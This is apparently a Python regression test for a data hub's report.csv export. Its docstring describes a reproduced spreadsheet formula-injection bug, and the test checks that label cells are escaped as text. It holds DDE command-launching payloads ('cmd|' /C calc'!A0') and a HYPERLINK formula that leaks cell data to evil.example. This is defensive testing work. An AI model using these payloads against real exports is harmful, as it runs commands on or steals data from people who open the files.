"""report.csv opened in a spreadsheet runs no formula that came with the data.

A unit's label is data from outside the hub: the evaluator's input table, or — in a unit appraisal
(`units: owners`) — the owner names a province pushed. Reproduced against the demo store: Beijing
pushed instruments whose owners were `@SUM(1+1)*cmd|' /C calc'!A0` and `=cmd|' /C calc'!A0 单位`,
then service statistics for them; `hub evaluate` of the Shandong appraisal pointed at 110000 wrote
both names as they came into report.csv (published at /api/v1/evaluations/{id}/report.csv), where a
spreadsheet runs them. The catalogue's exports already neutralise such cells (docs/catalogue.md);
report.csv now does the same for its text cells, and leaves numbers (negative ones too) alone.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hub.evaluation.report import to_csv_bytes
from hub.evaluation.service import run_evaluation

DATA = Path(__file__).parent / "data"
HOSTILE = {
    "AFG": '=HYPERLINK("http://evil.example/?leak="&A1,"Afghanistan")',
    "AGO": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ALB": "+cmd|' /C calc'!A0",
    "ARE": "-2+3+cmd|' /C calc'!A0",
}


def test_labels_that_look_like_formulas_are_text_in_report_csv(tmp_path):
    rows = list(csv.reader(io.StringIO((DATA / "hdi2021_raw_and_published.csv").read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:7]
    for row in body:
        row[1] = HOSTILE.get(row[0], row[1])
    table = tmp_path / "hostile.csv"
    with table.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *body])

    report, _ = run_evaluation(None, DATA / "hdi2021.yaml", inputs=[table], runs=0)
    sheet = list(csv.DictReader(io.StringIO(to_csv_bytes(report).decode("utf-8"))))

    labels = {row["unit"]: row["label"] for row in sheet}
    for unit, label in HOSTILE.items():
        assert labels[unit] == "'" + label, f"{unit}: a spreadsheet would run {labels[unit]!r}"
    assert {row["label"] for row in sheet} - {"'" + v for v in HOSTILE.values()} <= {r[1] for r in body}
    for row in sheet:
        float(row["score"]), int(row["rank"])  # numbers stay numbers
